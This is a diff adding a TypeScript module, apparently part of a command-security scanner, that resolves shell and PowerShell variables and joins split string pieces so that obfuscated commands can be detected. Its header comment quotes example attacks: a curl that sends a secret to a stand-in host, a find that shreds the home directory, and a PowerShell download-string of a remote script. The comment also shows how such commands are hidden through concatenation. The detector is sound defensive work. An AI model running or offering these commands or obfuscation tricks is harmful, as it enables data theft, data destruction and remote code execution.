@@ -1,0 +1,98 @@
+/**
+ * Commands read with the values their variables were given, and string pieces joined (issue 15 item 1:
+ * normalise first). A command assembled at run time from innocent pieces reads as what it runs:
+ *
+ *   local a=cu b=rl h='dotsync' t='.workers' u='.dev'   →   $a$b -d "k=$p" "https://$h$t$u/s"
+ *                                                          reads  curl -d "k=$p" "https://dotsync.workers.dev/s"
+ *   CACHE_ROOTS="$HOME"; find $CACHE_ROOTS … -exec shred  →  find $HOME … -exec shred
+ *   $u = -join ('ht','tps://','x.','dev/p.ps1'); ('Download'+'String')  →  'https://x.dev/p.ps1', 'DownloadString'
+ *
+ * Only literal values are carried (a quoted string or a bare word, itself read with the values known so
+ * far); a variable set from a command substitution, `read` or anything else is forgotten, so nothing is
+ * guessed. Variables carry from block to block, as a shell session keeps them. Each resolved command is
+ * a unit of its own (`synthetic`: its text is not drawn from the raw lines, so the prefilter reads it
+ * as a text of its own, like a decoded blob), placed right after the command it reads, so the line
+ * rules, the document rules and the cross-line flow all see it. Linear: one pass over the commands,
+ * every value and every result bounded (GUARD.resolvedValueChars, GUARD.resolvedUnitChars).
+ */
+import { GUARD } from '../core/limits.ts'
+import type { Unit } from './normalize.ts'
+
+/** A literal joined to a literal with `+` (JS, Python, PowerShell, C#): `'Down' + 'load'`. */
+const PLUS_PAIR = /(["'])([^"'\n\\]{0,200})\1\s{0,3}\+\s{0,3}(["'])([^"'\n\\]{0,200})\3/g
+/** A list of literals joined with nothing between them: PowerShell `-join ('a','b')`, Python `''.join(['a','b'])`, JS `['a','b'].join('')`. */
+const JOIN_LIST = /-join\s{0,3}\(\s{0,3}((?:["'][^"'\n\\]{0,200}["']\s{0,3},\s{0,3}){1,40}["'][^"'\n\\]{0,200}["'])\s{0,3}\)|(?:''|"")\.join\(\s{0,3}[[(]\s{0,3}((?:["'][^"'\n\\]{0,200}["']\s{0,3},\s{0,3}){1,40}["'][^"'\n\\]{0,200}["'])\s{0,3}[\])]\s{0,3}\)|\[\s{0,3}((?:["'][^"'\n\\]{0,200}["']\s{0,3},\s{0,3}){1,40}["'][^"'\n\\]{0,200}["'])\s{0,3}\]\.join\(\s{0,3}(?:''|""|)\s{0,3}\)/g
+const LITERAL = /["']([^"'\n\\]{0,200})["']/g
+/** Shell quotes that touch (`c""url`, `"ht""tps"`): the shell joins them. */
+const TOUCHING_QUOTES = /(?<=\S)(?:""|'')(?=\S)/g
+
+/** Joins string pieces the code itself joins; the text unchanged when there are none. */
+export function joinPieces(text: string): string {
+  if (!/["']/.test(text)) return text
+  let t = text.replace(TOUCHING_QUOTES, '')
+  t = t.replace(JOIN_LIST, (_m, a?: string, b?: string, c?: string) => {
+    const list = (a ?? b ?? c)!
+    return "'" + [...list.matchAll(LITERAL)].map((x) => x[1]).join('') + "'"
+  })
+  // `'a' + 'b' + 'c'`: each round joins pairs; a chain of n pieces needs about log2(n) rounds.
+  for (let round = 0; round < 8 && t.includes('+'); round++) {
+    const next = t.replace(PLUS_PAIR, (_m, q: string, a: string, _q2: string, b: string) => q + a + b + q)
+    if (next === t) break
+    t = next
+  }
+  return t
+}
+
+/**
+ * Shell assignments at a command's start (`a=1 b='x' cmd`, `export A=…`, `local a=… b=…`) and
+ * PowerShell ones (`$u = '…'`). Group 1/2: shell name, value; 3/4: PowerShell name, value.
+ */
+const SHELL_ASSIGN = /(?:^|[;&|({]\s{0,3}|\b(?:then|do|else|export|local|readonly|typeset|declare(?:\s{1,3}-[a-zA-Z]{1,4}|))\s{1,3}|\s)([A-Za-z_]\w{0,40})=('[^'\n]{0,300}'|"[^"\n`]{0,300}"|[^\s;&|()<>'"`]{0,300})(?=[\s;&|)]|$)/g
+const PS_ASSIGN = /^\s{0,8}\$([A-Za-z_]\w{0,40})\s{0,3}=\s{0,3}(["'])([^"'\n`]{0,300})\2\s{0,3};?\s{0,3}$/
+/** A reference to a variable: `$NAME` or `${NAME}` (not `${NAME:-…}` or `$(`). */
+const REF = /\$\{([A-Za-z_]\w{0,40})\}|\$([A-Za-z_]\w{0,40})/g
+
+function unquote(v: string): string {
+  return /^'.*'$|^".*"$/s.test(v) && v.length >= 2 ? v.slice(1, -1) : v
+}
+
+/** `text` with every known variable replaced by its value; unknown ones left as written. */
+function fill(text: string, vars: ReadonlyMap<string, string>): string {
+  if (!vars.size || !text.includes('$')) return text
+  return text.replace(REF, (m, braced?: string, bare?: string) => vars.get((braced ?? bare)!) ?? m)
+}
+
+/**
+ * The units with, after each command that reads differently once its variables are filled in and its
+ * string pieces joined, a synthetic command unit holding that reading. Other units are kept as they are.
+ */
+export function withResolvedCommands(units: readonly Unit[]): Unit[] {
+  if (!units.some((u) => u.kind === 'command' && (u.text.includes('$') || u.text.includes('+') || /-join|\.join\(|""|''/.test(u.text)))) return [...units]
+  const vars = new Map<string, string>()
+  const out: Unit[] = []
+  let made = 0
+  for (const u of units) {
+    out.push(u)
+    if (u.kind !== 'command' || u.context !== 'code') continue
+    const joined = joinPieces(u.text)
+    // Values set on this command, each read with what is known before it (left to right).
+    const ps = PS_ASSIGN.exec(joined)
+    if (ps) vars.set(ps[1]!, fill(ps[3]!, vars).slice(0, GUARD.resolvedValueChars))
+    else {
+      for (const m of joined.matchAll(SHELL_ASSIGN)) {
+        const name = m[1]!
+        const raw = m[2]!
+        // A value the guard cannot know (a substitution, arithmetic) is forgotten, never guessed.
+        if (/\$\(|\$\[|`/.test(raw) || vars.size >= GUARD.resolvedMaxVariables) vars.delete(name)
+        else vars.set(name, fill(unquote(raw), vars).slice(0, GUARD.resolvedValueChars))
+      }
+      // `read NAME`, `for NAME in`, `NAME+=`: the value is not a literal any more.
+      for (const m of joined.matchAll(/\b(?:read(?:\s{1,3}-[a-zA-Z]{1,4}){0,3}|for)\s{1,3}([A-Za-z_]\w{0,40})\b|\b([A-Za-z_]\w{0,40})(?:\+=|=["']?(?:\$\(|\$\[|`))/g)) vars.delete((m[1] ?? m[2])!)
+    }
+    const text = fill(joined, vars).slice(0, GUARD.resolvedUnitChars)
+    if (text === u.text || made >= GUARD.resolvedMaxUnits) continue
+    made++
+    out.push({ text, line: u.line, endLine: u.endLine, context: 'code', kind: 'command', changed: true, table: u.table, synthetic: true })
+  }
+  return out
+}
